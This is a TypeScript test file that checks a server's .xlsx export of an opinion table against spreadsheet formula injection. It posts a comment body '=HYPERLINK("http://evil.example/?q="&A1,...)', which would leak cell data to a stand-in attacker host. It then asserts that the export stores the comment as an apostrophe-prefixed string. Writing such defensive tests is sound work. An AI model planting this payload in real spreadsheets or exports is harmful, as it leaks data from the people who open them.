import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ok } from '#test/support/client.js';
import { planLedBy, publish } from '#test/support/drafts.js';
import { DispositionTableUrlDocument, StartThreadDocument } from '#test/support/generated/graphql.js';
import { buildProgramme, startTestServer, type TestServer } from '#test/support/server.js';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer({ demo: false });
});
afterAll(() => server.stop());

describe('the opinion table as .xlsx', () => {
  it('carries an opinion written like a formula as inert text (OWASP formula injection)', async () => {
    const p = await buildProgramme(server);
    const draft = await publish(server, await p.as('working'), await planLedBy(server, p, '规财处'));
    const body = '=HYPERLINK("http://evil.example/?q="&A1,"查看依据")';
    await ok(server.url, StartThreadDocument, { draftId: draft.id, anchor: null, body }, await p.as('kexin'));

    const guicai = await p.as('guicai');
    const link = (await ok(server.url, DispositionTableUrlDocument, { id: draft.id }, guicai)).dispositionTable;
    const res = await fetch(`${server.url}${link.url}`, { headers: { authorization: `Bearer ${guicai}` } });
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const cells: ExcelJS.Cell[] = [];
    book.worksheets[0]?.eachRow((row) => {
      row.eachCell((cell) => {
        if (String(cell.value).includes('HYPERLINK')) cells.push(cell);
      });
    });
    expect(cells).toHaveLength(1);
    expect(cells[0]?.type).toBe(ExcelJS.ValueType.String);
    expect(cells[0]?.value).toBe(`'${body}`);
  });
});
